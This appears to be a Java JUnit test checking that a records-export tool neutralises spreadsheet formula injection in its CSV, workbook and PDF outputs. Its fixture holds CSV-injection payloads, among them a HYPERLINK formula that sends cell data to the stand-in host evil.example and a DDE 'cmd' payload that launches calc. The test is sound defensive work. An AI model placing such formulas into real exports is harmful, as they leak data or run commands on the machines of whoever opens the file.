package org.quickfreeze.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.quickfreeze.testsupport.Quickfreeze;

/**
 * Cells of the input that a spreadsheet would run (beginning with {@code =}, {@code +},
 * {@code -}, {@code @} or tab) stay inert text in every output: string cells in the
 * workbook, prefixed with {@code '} in the CSV outputs, printed as they are in the PDF.
 * (A carriage return cannot begin a cell of a CSV export: it ends the line, and inside
 * quotes it is read as a line break.) The preservations are overdue as of D, so that the
 * monthly report lists them.
 */
class InjectionTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

    private static final String EXPORT = """
            request_id,register,party,direction,request_type,counterpart,requested_on,status,case_reference,offence
            =1+2,CP,RO,SENT,PRESERVATION,DE,2026-08-10,OPEN,"%s",@SUM(A1:A9)
            +44,CP,RO,SENT,PRESERVATION,DE,2026-08-11,OPEN,-2+3,"\tcmd"
            @x,CP,RO,SENT,PRESERVATION,XX,2026-08-12,OPEN,"=cmd|' /C calc'!A0","\tcalc"
            """.formatted(HYPERLINK.replace("\"", "\"\""));

    @TempDir
    static Path home;

    static Quickfreeze quickfreeze;

    @BeforeAll
    static void runTheExport() throws IOException {
        Path exports = Files.createDirectories(home.resolve("exports"));
        Files.writeString(exports.resolve("cp.csv"), EXPORT);
        quickfreeze = new Quickfreeze(home);
        var outcome = quickfreeze.run("run", "--input", exports.toString(), "--period", "2026-10");
        assertThat(outcome.exitCode()).as(outcome.stderr()).isZero();
        assertThat(outcome.stdout()).containsPattern("cp.csv\\s+3\\s+2\\s+1\\s+0\\s+LOADED");
    }

    @Test
    void csvOutputsPrefixCellsASpreadsheetWouldRun() throws IOException {
        List<CSVRecord> findings = Quickfreeze.csv(quickfreeze.out().resolve("findings-2026-10-31.csv"));
        assertThat(findings.subList(1, findings.size())).extracting(r -> r.get(1))
            .containsExactlyInAnyOrder("'=1+2", "'+44");

        List<CSVRecord> rejects = Quickfreeze.csv(quickfreeze.out().resolve("rejects-2026-10-31.csv"));
        assertThat(rejects).hasSize(2);
        assertThat(rejects.get(1).toList()).contains("'@x", "'=cmd|' /C calc'!A0", "'\tcalc");
    }

    @Test
    void workbookHoldsThemAsStringCellsAndNoFormulaAnywhere() throws IOException {
        List<String> flagged = new ArrayList<>();
        try (InputStream in = Files.newInputStream(quickfreeze.out().resolve("compliance-2026-10-31.xlsx"));
                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
                            .isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
            for (Row row : workbook.getSheet("Flags")) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        flagged.add(cell.getStringCellValue());
                    }
                }
            }
        }
        // loaded cells are trimmed (case-export.md), so a leading tab is gone; the
        // rejects keep it, prefixed
        assertThat(flagged).contains("=1+2", "+44", HYPERLINK, "@SUM(A1:A9)", "-2+3", "cmd");
    }

    @Test
    void monthlyPdfPrintsThemAsTheyAre() throws IOException {
        try (PDDocument document = Loader.loadPDF(quickfreeze.out().resolve("monthly-2026-10-31.pdf").toFile())) {
            String text = new PDFTextStripper().getText(document).replaceAll("\\s+", "");
            assertThat(text).contains("=1+2", "+44", HYPERLINK.replaceAll("\\s+", ""));
        }
    }

}
